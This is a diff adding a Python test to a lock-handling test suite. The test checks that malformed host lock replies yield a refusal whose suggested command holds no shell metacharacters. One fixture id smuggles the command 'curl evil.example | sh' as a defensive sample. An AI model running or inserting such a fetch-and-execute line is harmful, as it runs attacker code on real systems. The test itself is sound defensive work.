@@ -113,6 +113,19 @@ def test_who_has_read_the_host_before_another_run_was_there_gets_nothing(ask: As
     assert ask("taken", {**OWNER, "seen": token})["taken"]
 
 
+def test_what_a_host_says_of_its_lock_is_no_command_and_ends_nothing() -> None:
+    holder = {"user": "kim", "host": "ops1", "since": "today", "pid": 7}
+    for answer in (
+        {"id": "x; curl evil.example | sh", "holder": holder},
+        {"id": ["x"], "holder": holder, "running": 5, "left": "soon"},
+        {"id": {}, "holder": "nobody"},
+        {"id": "x", "passed": {"user": 5, "host": None}},
+    ):
+        told, way_out = locked.refusal(answer, (), "apply with")
+        assert told
+        assert not set(way_out) & set("|$`{}[]")
+
+
 def test_an_argument_that_is_none_is_refused(ask: Ask) -> None:
     refused = ask("held", OWNER)
     assert refused["failed"]
